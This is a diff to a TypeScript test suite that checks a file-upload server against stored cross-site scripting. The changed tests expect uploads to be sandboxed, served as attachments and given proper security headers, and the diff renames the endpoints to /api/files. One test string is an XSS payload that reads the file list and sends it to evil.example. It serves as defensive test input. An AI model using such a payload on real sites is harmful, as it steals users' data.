@@ -14,7 +14,7 @@ const MEDIA_SANDBOX = "default-src 'none'; img-src 'self'; media-src 'self'; san
 async function uploadAs(url: string, content: string | Uint8Array, name: string, type: string): Promise<string> {
   const form = new FormData();
   form.append('file', new Blob([content], { type }), name);
-  const response = await fetch(`${url}/file`, { method: 'POST', body: form });
+  const response = await fetch(`${url}/api/files`, { method: 'POST', body: form });
   assert.equal(response.status, 200, `upload of ${name}`);
   return ((await response.json()) as { file_id: string }).file_id;
 }
@@ -34,7 +34,7 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
   const served = servedLibrary();
 
   it('an uploaded HTML page, SVG or script downloads as an attachment, sandboxed and never sniffed', async () => {
-    const script = '<script>fetch("/file").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';
+    const script = '<script>fetch("/api/files").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';
     const cases = [
       ['page.html', 'text/html', `<html><body>${script}</body></html>`],
       ['drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
@@ -46,7 +46,7 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
     ] as const;
     for (const [name, type, content] of cases) {
       const id = await uploadAs(served.server.url, content, name, type);
-      const response = await fetch(`${served.server.url}/file/${id}`);
+      const response = await fetch(`${served.server.url}/api/files/${id}`);
       assert.equal(response.status, 200, name);
       assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="/, `${name} is an attachment`);
       assert.equal(response.headers.get('content-security-policy'), SANDBOX, name);
@@ -61,19 +61,19 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
     const pngId = await uploadAs(served.server.url, Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'dot.png', 'image/png');
     const audioId = await uploadAs(served.server.url, Buffer.from('ID3\x03\x00\x00\x00\x00\x00\x00'), 'tone.mp3', 'audio/mpeg');
     for (const id of [videoId, pngId, audioId]) {
-      const response = await fetch(`${served.server.url}/file/${id}`);
+      const response = await fetch(`${served.server.url}/api/files/${id}`);
       assert.match(response.headers.get('content-disposition') ?? '', /^inline; filename="/);
       assert.equal(response.headers.get('content-security-policy'), MEDIA_SANDBOX);
       assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
       await response.arrayBuffer();
     }
     // What a <video> element asks for first, then a seek: both answered in place, with the bytes asked.
-    const first = await fetch(`${served.server.url}/file/${videoId}`, { headers: { range: 'bytes=0-' } });
+    const first = await fetch(`${served.server.url}/api/files/${videoId}`, { headers: { range: 'bytes=0-' } });
     assert.equal(first.status, 206);
     assert.equal(first.headers.get('content-type'), 'video/mp4');
     assert.equal(first.headers.get('accept-ranges'), 'bytes');
     assert.deepEqual(Buffer.from(await first.arrayBuffer()), video);
-    const seek = await fetch(`${served.server.url}/file/${videoId}`, { headers: { range: `bytes=${video.length - 100}-` } });
+    const seek = await fetch(`${served.server.url}/api/files/${videoId}`, { headers: { range: `bytes=${video.length - 100}-` } });
     assert.equal(seek.status, 206);
     assert.equal(seek.headers.get('content-range'), `bytes ${video.length - 100}-${video.length - 1}/${video.length}`);
     assert.match(seek.headers.get('content-disposition') ?? '', /^inline/);
@@ -82,7 +82,7 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
 
   it('every response carries the usual security headers, and the API\'s JSON may load nothing', async () => {
     const id = await apiClient(served.server.url).upload('plain bytes', 'plain.bin');
-    for (const [method, path] of [['GET', '/file'], ['GET', `/file/${id}`], ['GET', '/nowhere'], ['GET', '/file/zz'], ['POST', '/analysis'], ['GET', '/health'], ['GET', '/docs/static/index.css']] as const) {
+    for (const [method, path] of [['GET', '/api/files'], ['GET', `/api/files/${id}`], ['GET', '/nowhere'], ['GET', '/api/files/zz'], ['POST', '/api/analyses'], ['GET', '/health'], ['GET', '/docs/static/index.css']] as const) {
       const response = await fetch(`${served.server.url}${path}`, { method });
       await response.arrayBuffer();
       const where = `${method} ${path} (${response.status})`;
@@ -94,7 +94,7 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
       assert.ok(response.headers.get('content-security-policy'), `${where} has a CSP`);
       assert.equal(response.headers.get('x-powered-by'), null, where);
     }
-    const json = await fetch(`${served.server.url}/file`);
+    const json = await fetch(`${served.server.url}/api/files`);
     const csp = directives(json.headers.get('content-security-policy'));
     assert.deepEqual(csp.get('default-src'), ["'none'"]);
     assert.deepEqual(csp.get('frame-ancestors'), ["'none'"]);
